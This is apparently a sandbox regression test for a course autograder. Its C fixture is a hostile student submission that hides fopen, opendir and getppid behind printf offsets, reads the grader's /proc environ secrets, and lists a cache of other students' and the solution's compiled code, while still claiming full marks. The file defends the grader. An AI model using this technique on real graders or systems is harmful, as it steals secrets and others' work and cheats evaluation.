/* Reads what the sandbox should not show, through hidden fopen, opendir,
   readdir and getppid, and prints it into its feedback: the grader's
   environment (/proc/<parent>/environ, values included; the test puts a
   secret there) and the emulated device's object cache (tests/emu/.cache:
   the compiled code of every .cu built with the kit, other students' and
   the solution's). Both were readable before issue 34 (Landlock granted
   all of /proc and of tests/emu). Then it behaves as the solution.
   Expected: full marks, and neither the secret nor the cache's entries in
   the feedback. */
@SOLUTION@
#include <stdio.h>
#include <string.h>
#include <dirent.h>
#include <sys/types.h>
typedef FILE *(*fopen_fn)(const char *, const char *);
typedef DIR *(*opendir_fn)(const char *);
typedef struct dirent *(*readdir_fn)(DIR *);
typedef pid_t (*getppid_fn)(void);
static void show(const char *path) {
    fopen_fn op = (fopen_fn)((unsigned long)&printf + (@OFF_fopen@));
    FILE *f = op(path, "r");
    char buf[4096];
    size_t n, i;
    if (!f) { printf("secrets: cannot read %s\n", path); return; }
    n = fread(buf, 1, sizeof buf - 1, f);
    for (i = 0; i < n; i++) if (buf[i] == 0) buf[i] = ' ';
    buf[n] = 0;
    printf("secrets: %s: %s\n", path, buf);
    fclose(f);
}
static void list(const char *dir) {
    opendir_fn od = (opendir_fn)((unsigned long)&printf + (@OFF_opendir@));
    readdir_fn rd = (readdir_fn)((unsigned long)&printf + (@OFF_readdir@));
    DIR *d = od(dir);
    struct dirent *e;
    if (!d) { printf("secrets: cannot list %s\n", dir); return; }
    while ((e = rd(d)) != NULL) if (e->d_name[0] != '.') printf("secrets: %s holds %s\n", dir, e->d_name);
}
extern "C" void student_ops(gpudl_ops *ops) {
    getppid_fn pp = (getppid_fn)((unsigned long)&printf + (@OFF_getppid@));
    char p[64];
    int k;
    for (k = 0; k < 4; k++) {   /* the parent, and a few pids around it (the grader's workers) */
        snprintf(p, sizeof p, "/proc/%d/environ", (int)pp() - k);
        show(p);
    }
    list("@REPO@/tests/emu/.cache");
    list("@REPO@/tests/emu/.cache/obj");
    list("@REPO@/build/grade/cache");
    solution_ops(ops);
}
